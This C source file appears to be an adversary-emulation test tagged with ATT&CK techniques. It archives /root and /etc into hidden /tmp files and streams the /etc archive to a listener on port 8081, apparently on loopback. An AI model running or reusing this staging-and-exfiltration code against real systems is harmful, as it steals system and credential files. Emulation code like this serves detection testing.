/* T1560.001, T1074.001, T1048: packs /etc and /root into one file out of sight, and sends that to a listener.
 * aim: secrets */
#include "loopback.h"

static int32_t pack(const char *archive, const char *folder)
{
    char *words[] = {(char *)"tar", (char *)"cf", (char *)archive, (char *)folder, NULL}, *environment[] = {NULL};
    int32_t child = CALL(CLONE, CLONE_FORK);
    if (child == 0)
        leave(CALL(EXECVE, "/bin/tar", words, environment) != 0);
    return ended(child);
}

int main(void)
{
    char bytes[512];
    int32_t packed = pack("/tmp/.a", "/root") | pack("/tmp/.b", "/etc"), collector = begin_collector(8081), count;
    int32_t socket = connection(8081), file = CALL(OPENAT, AT_FDCWD, "/tmp/.b", O_RDONLY);
    bool sent = packed == 0 && socket >= 0 && file >= 0;
    while (sent && (count = CALL(READ, file, bytes, sizeof bytes)) > 0)
        sent = write_all(socket, bytes, (uint32_t)count);
    CALL(CLOSE, socket);
    if (socket < 0)
        CALL(KILL, collector, SIGKILL);
    ended(collector);
    print(sent ? "\ndone\n" : "\nno\n");
    return !sent;
}
